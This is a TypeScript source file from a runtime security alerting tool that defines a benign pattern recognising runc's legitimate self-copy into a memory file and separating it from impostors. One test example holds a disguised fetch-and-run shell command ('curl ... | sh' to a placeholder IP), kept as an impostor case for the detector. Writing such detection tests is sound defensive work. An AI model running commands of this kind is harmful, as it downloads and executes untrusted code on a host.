import type { Facts } from "#alert/facts.ts";
import type { BenignEvidence, BenignPattern } from "../benign.ts";
import { executing, inContainer, onHost } from "./examples.ts";
import { containerRuntimes, runtimeExecutables } from "./places.ts";
import { callsOf, hasTrustedParent, isAmong, isContradicted, isStartedBy, isUndisputed } from "./trust.ts";

/** runc, which runs a copy of itself from memory. */

/** Folders of root alone in which a runtime keeps the state of its containers: a process's working folder is the kernel's word. */
const stateFolders = [
  "/run/containerd/io.containerd.runtime.v2.task/",
  "/run/docker/containerd/daemon/io.containerd.runtime.v2.task/",
  "/run/k3s/containerd/io.containerd.runtime.v2.task/",
  "/var/run/docker/containerd/daemon/io.containerd.runtime.v2.task/",
];

export const runcFromMemoryPatterns: readonly BenignPattern[] = [
  {
    id: "runc-from-memory",
    activity: "runc runs a copy of itself from memory when a container starts or a command is run in one",
    distinguishing: [
      "runc does so since CVE-2019-5736, to keep containers from overwriting it; each start of a container and each health check shows it.",
      "containerd-shim or dockerd stands above it, and its log path names the container that starts at that second.",
      "Anybody can call a memory file `runc`: one that connects to the network, reads files or stays alive for minutes is something else.",
    ],
    families: ["syscall"],
    explains: ["fileless-execution", "runs-dropped-binary"],
    match: runcFromMemory,
    examples: {
      proven: [
        onHost(".runc", "memfd:runc", "", {
          ...executing(
            ".runc --root /run/containerd/runc/k8s.io --log /run/containerd/io.containerd.runtime.v2.task/k8s.io/5a1c9e7b20d4/log.json --log-format json exec --process /tmp/runc-process10 5a1c9e7b20d4",
          ),
          "evt.arg.flags": "EXE_WRITABLE|EXE_FROM_MEMFD",
          "proc.cwd": "/run/containerd/io.containerd.runtime.v2.task/k8s.io/5a1c9e7b20d4/",
        }),
        onHost("6", "memfd:runc_cloned:/proc/self/exe", "containerd-shim", {
          ...executing("6 init"),
          "evt.arg.flags": "EXE_WRITABLE|EXE_FROM_MEMFD",
          "proc.pexepath": "/usr/bin/containerd-shim-runc-v2",
        }),
      ],
      named: [
        onHost(".runc", "memfd:runc", "", {
          ...executing(".runc --version"),
          "evt.arg.flags": "EXE_WRITABLE|EXE_FROM_MEMFD",
        }),
      ],
      ignored: [
        onHost("kworker", "memfd:a", "bash", {
          ...executing("kworker"),
          "evt.arg.flags": "EXE_WRITABLE|EXE_FROM_MEMFD",
        }),
        inContainer("runc", "memfd:runc", "python3", {
          ...executing("runc"),
          "evt.arg.flags": "EXE_WRITABLE|EXE_FROM_MEMFD",
        }),
        onHost("runc", "memfd:runc", "php-fpm", { ...executing("runc init"), "evt.arg.flags": "EXE_FROM_MEMFD" }),
        onHost(".runc", "memfd:runc", "bash", {
          ...executing(".runc -c curl http://203.0.113.4/x | sh"),
          "evt.arg.flags": "EXE_FROM_MEMFD",
        }),
      ],
    },
  },
];

/** The name of a memory file is free to choose; the working folder and the parent's executable are not. */
function runcFromMemory(facts: Facts): BenignEvidence | null {
  const { exepath, command, cwd } = facts.process;
  if (exepath === null || !looksLikeRunc(facts, exepath)) return null;
  const inState = cwd !== null && facts.reliable("proc.cwd") && isAmong(cwd, stateFolders);
  const sure = facts.container.where === "host" && facts.user.kind === "root" && isUndisputed(facts);
  if (sure && (inState || hasTrustedParent(facts, runtimeExecutables))) {
    const what = inState
      ? `its working folder ${cwd} belongs to the runtime alone`
      : `its parent's executable is the runtime's own (${facts.parent.exepath})`;
    return { strength: "proven", quote: exepath, because: `it runs on the host as root, and ${what}` };
  }
  return {
    strength: "named",
    quote: command.text === "" ? exepath : command.text,
    because: "runc copies itself into memory like this, but anybody can name a memory file `runc`",
  };
}

function looksLikeRunc(facts: Facts, exepath: string): boolean {
  if (!/^memfd:(?:runc|crun|runc_cloned:\/proc\/self\/exe)(?: \(deleted\))?$/.test(exepath)) return false;
  if (facts.container.where === "container" || facts.process.terminal === true) return false;
  if (facts.process.exeUpperLayer === true || callsOf(facts, "execve", "execveat") === null) return false;
  if (facts.ancestors.length > 0 && !isStartedBy(facts, containerRuntimes)) return false;
  const quiet = { ...facts, process: { ...facts.process, exepath: null, exeFromMemory: null } };
  return !isContradicted(quiet, ["/tmp/"]);
}
